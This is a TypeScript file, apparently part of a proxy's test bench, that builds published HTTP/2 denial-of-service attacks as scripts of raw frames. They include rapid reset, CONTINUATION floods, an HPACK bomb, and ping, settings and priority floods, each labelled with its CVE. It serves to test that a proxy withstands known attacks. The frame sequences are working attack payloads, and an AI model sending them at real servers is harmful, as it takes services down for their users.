// The published attacks on HTTP/2 as scripts of frames, bounded in bytes.
import { ERROR, FRAME, SETTING } from '../../src/wire/http2/frames/constants.ts';
import * as raw from '../../src/wire/http2/testing/raw.ts';

export type Attack = {
  readonly name: string;
  /** Where it was published. */
  readonly published: string;
  /** What is sent behind the preface, in pieces: settings first. */
  readonly script: () => Iterable<Buffer>;
  /** Reads nothing until everything is sent. */
  readonly isDeaf?: true;
  /** Waits between pieces. */
  readonly paceMs?: number;
  /** Stays for so long when everything is sent. */
  readonly holdMs?: number;
  /** Makes the proxy work before it is found out, if it ever is: the bench takes fewer of them. */
  readonly isHeavy?: true;
  /** http2_protocol_options that bring its limit within reach. */
  readonly options?: Readonly<Record<string, number>>;
};

export type AttackPaths = { readonly small: string; readonly large: string };

/** Frames in one piece. */
const PIECE = 100;
const LARGE_WINDOW = 0x7fff_ffff;

type Fields = readonly (readonly [string, string])[];

function getFields(path: string): Fields {
  return [
    [':method', 'GET'],
    [':scheme', 'http'],
    [':authority', 'attack.example'],
    [':path', path],
  ];
}

function postFields(path: string): Fields {
  return [[':method', 'POST'], ...getFields(path).slice(1)];
}

/** `count` times what `make` gives for the numbers from 0, in pieces. */
function* pieces(count: number, make: (index: number) => Buffer, first: readonly Buffer[] = []): Generator<Buffer> {
  yield Buffer.concat([raw.settings(), ...first]);
  for (let at = 0; at < count; at += PIECE) {
    const length = Math.min(PIECE, count - at);
    yield Buffer.concat(Array.from({ length }, (_, i) => make(at + i)));
  }
}

function same(count: number, frame: Buffer, first: readonly Buffer[] = []): Iterable<Buffer> {
  return pieces(count, () => frame, first);
}

const streamId = (index: number): number => 2 * index + 1;
const END_HEADERS = 4;
const END_STREAM = 1;

export function attacks(paths: AttackPaths): readonly Attack[] {
  return [...resets(paths), ...blocks(paths), ...floods(paths), ...slowReaders(paths)];
}

/** Streams that end as soon as they began. */
function resets({ small, large }: AttackPaths): Attack[] {
  return [
    {
      name: 'rapid-reset',
      published: 'CVE-2023-44487',
      script: () =>
        pieces(5_000, (i) =>
          Buffer.concat([
            raw.headers(streamId(i), getFields(large), END_HEADERS | END_STREAM),
            raw.rst(streamId(i), ERROR.cancel),
          ]),
        ),
    },
    {
      name: 'made-you-reset',
      published: 'CVE-2025-8671',
      // A WINDOW_UPDATE of nothing is an error of its stream, which the server has to reset.
      script: () =>
        pieces(5_000, (i) =>
          Buffer.concat([
            raw.headers(streamId(i), getFields(large), END_HEADERS | END_STREAM),
            raw.windowUpdate(streamId(i), 0),
          ]),
        ),
    },
    {
      name: 'reset-flood',
      published: 'CVE-2019-9514',
      // Streams beyond what is allowed are refused one by one, to somebody who does not read it.
      isDeaf: true,
      isHeavy: true,
      script: () => pieces(12_000, (i) => raw.headers(streamId(i), postFields(small), END_HEADERS)),
    },
  ];
}

/** Header blocks that are endless, or larger than they look. */
function blocks({ small }: AttackPaths): Attack[] {
  return [
    {
      name: 'continuation-flood',
      published: 'CVE-2024-27316, CVE-2024-30255',
      script: () =>
        pieces(5_000, (i) => raw.frame(FRAME.continuation, 0, 1, raw.block([[`x-${i % 1000}`, 'y']])), [
          raw.headers(1, getFields(small), END_STREAM),
        ]),
    },
    {
      name: 'endless-header-list',
      published: 'CVE-2024-27919',
      script: () => {
        const block = raw.block([['x', 'y'.repeat(16_000)]]);
        return same(60, raw.frame(FRAME.continuation, 0, 1, block), [raw.headers(1, getFields(small), END_STREAM)]);
      },
    },
    {
      name: 'hpack-bomb',
      published: 'CVE-2016-6581',
      isHeavy: true,
      script: () => hpackBomb(small),
    },
    {
      name: 'zero-length-headers',
      published: 'CVE-2019-9516',
      // Names and values without a letter, one of them as a Huffman string.
      script: () => {
        const block = Buffer.concat([raw.block(getFields(small)), Buffer.alloc(3 * 90, Buffer.of(0x40, 0x80, 0x00))]);
        return pieces(500, (i) => raw.frame(FRAME.headers, END_HEADERS | END_STREAM, streamId(i), block));
      },
    },
  ];
}

/** Frames that cost their sender nothing. */
function floods({ small }: AttackPaths): Attack[] {
  const open = raw.headers(1, postFields(small), END_HEADERS);
  return [
    {
      name: 'settings-flood',
      published: 'CVE-2019-9515',
      isDeaf: true,
      script: () => same(5_000, raw.settings(SETTING.headerTableSize, 4096, SETTING.initialWindowSize, 65_535)),
    },
    {
      name: 'ping-flood',
      published: 'CVE-2019-9512',
      isDeaf: true,
      script: () => same(5_000, raw.frame(FRAME.ping, 0, 0, Buffer.alloc(8, 'p'))),
    },
    {
      name: 'empty-frames-flood',
      published: 'CVE-2019-9518',
      script: () => same(5_000, raw.frame(FRAME.data, 0, 1), [open]),
    },
    {
      name: 'window-update-flood',
      published: 'Envoy: max_inbound_window_update_frames_per_data_frame_sent',
      script: () => same(5_000, raw.windowUpdate(0, 1), [open]),
    },
    {
      name: 'priority-flood',
      published: 'CVE-2019-9513',
      script: () =>
        pieces(5_000, (i) =>
          raw.frame(
            FRAME.priority,
            0,
            streamId(i % 500),
            Buffer.concat([raw.uint32(2 * (i % 499) + 1001), Buffer.of(i & 255)]),
          ),
        ),
    },
  ];
}

/** Answers that are asked for and not taken. */
function slowReaders({ large }: AttackPaths): Attack[] {
  return [
    {
      name: 'data-dribble',
      published: 'CVE-2019-9511',
      paceMs: 5,
      isHeavy: true,
      script: () => dribble(large),
    },
    {
      name: 'zero-windows',
      published: 'CVE-2019-9517, with windows of streams',
      holdMs: 500,
      isHeavy: true,
      // Large answers wait in the proxy for windows that never open.
      script: () =>
        pieces(300, (i) => raw.headers(streamId(i), getFields(large), END_HEADERS | END_STREAM), [
          raw.settings(SETTING.initialWindowSize, 0),
        ]),
    },
    {
      name: 'internal-buffering',
      published: 'CVE-2019-9517',
      isDeaf: true,
      holdMs: 500,
      isHeavy: true,
      // HTTP/2's windows are wide open and TCP's is shut.
      script: () =>
        pieces(300, (i) => raw.headers(streamId(i), getFields(large), END_HEADERS | END_STREAM), [
          raw.settings(SETTING.initialWindowSize, LARGE_WINDOW),
          raw.windowUpdate(0, LARGE_WINDOW - 65_535),
        ]),
    },
    {
      name: 'outbound-frames',
      published: 'Envoy: max_outbound_frames',
      isDeaf: true,
      holdMs: 1_500,
      options: { max_outbound_frames: 200 },
      script: () =>
        pieces(200, (i) => raw.headers(streamId(i), getFields(large), END_HEADERS | END_STREAM), [
          raw.settings(SETTING.initialWindowSize, LARGE_WINDOW),
          raw.windowUpdate(0, LARGE_WINDOW - 65_535),
        ]),
    },
  ];
}

/** One entry of 4,000 bytes in the dynamic table, and then heads that consist of references to it. */
function* hpackBomb(path: string): Generator<Buffer> {
  const value = 'v'.repeat(4_000);
  // Literal with incremental indexing, name `a`, a value of 4,000 bytes: 127 + 3,873 as a prefixed integer.
  const entry = Buffer.concat([Buffer.from([0x40, 1, 0x61, 0x7f, 0xa1, 0x1e]), Buffer.from(value)]);
  yield Buffer.concat([
    raw.settings(),
    raw.frame(FRAME.headers, END_HEADERS | END_STREAM, 1, Buffer.concat([raw.block(getFields(path)), entry])),
  ]);
  const block = Buffer.concat([raw.block(getFields(path)), Buffer.alloc(16_000, 0xbe)]);
  for (let i = 1; i < 1_000; i++) yield raw.frame(FRAME.headers, END_HEADERS | END_STREAM, streamId(i), block);
}

/** 100 large answers, each let go a byte at a time. */
function* dribble(path: string): Generator<Buffer> {
  const streams = 100;
  yield Buffer.concat([
    raw.settings(SETTING.initialWindowSize, 1),
    raw.windowUpdate(0, LARGE_WINDOW - 65_535),
    ...Array.from({ length: streams }, (_, i) => raw.headers(streamId(i), getFields(path), END_HEADERS | END_STREAM)),
  ]);
  for (let round = 0; round < 200; round++) {
    yield Buffer.concat(Array.from({ length: streams }, (_, i) => raw.windowUpdate(streamId(i), 1)));
  }
}
